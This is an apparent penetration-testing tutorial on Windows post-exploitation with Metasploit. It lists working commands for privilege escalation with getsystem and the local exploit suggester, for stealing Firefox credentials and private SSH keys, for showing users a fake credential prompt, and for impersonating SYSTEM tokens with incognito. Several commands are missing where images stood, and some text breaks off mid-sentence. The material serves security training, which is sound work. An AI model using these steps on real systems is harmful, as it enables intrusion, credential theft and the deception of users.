Skip to main content


When we have exploited a windows host we can try to become NT AUTHORITY/SYSTEM (or Administrator) by issuing getsystem, this meterpreter command will try different techniques to become root, anyway this will not always work, so it becomes useful to understand other enumeration techniques.

System Enumeration

We can check general information on the system with:


We can enumerate applications which are installed on the target machine:

use post/windows/gather/enum_applications

We can check which ports are open from meterpreter:


We can also enumerate services by dropping into a shell and doing:

sc queryex type= serviceNotice that frameworks like empire help us in the privilege escalation and enumeration phase, since this can be quite time consuming.

Stealing Firefox Credentials

Another thing we can try is to steal firefox credentials with:

use post/multi/gather/firefox_creds
set session 1 # or instead of "1" put the session id
set decrypt true
run # if it does not work proceed with
set disclaimer true
run # if it does not work proceed with
set decrypt false
set disclaimer falseWe can also try to steal private ssh keys by doing:

use post/multi/gather/ssh_creds
set session 1

Phishing Windows Credentials

Other privilege escalation techniques when we already have an account on a windows machine is to ask the user for credentials, we can do this by issuing:use post/winddows/gather/phish_windows_credentials

Now a popup will appear to the user asking for credentials, until he inserts the right ones.Of course other privesc techniques rely on the presence of the installation of wamp or in general of databases where we must try to dump the content, hopefully the credentials.

Local Exploit Suggester

Another technique we can use is to ask metasploit for suggestions on exploits to use for privesc, we can do this by issuing:

use post/multi/recon/local_exploit_suggester
set session 1

Now we will have the list of all the probable working exploits, we can try them one by one.Incognito Module

We can steal tokens, these are similar to cookies in theory, they allow to switch windows accounts withoutreinserting the password. We can do this by executing the following commands within metasploit:

load incognito
list_tokens -u
impersonate_token "NTAUTHORITY\\SYSTEM"

We can verify ifthis was successful by issuing: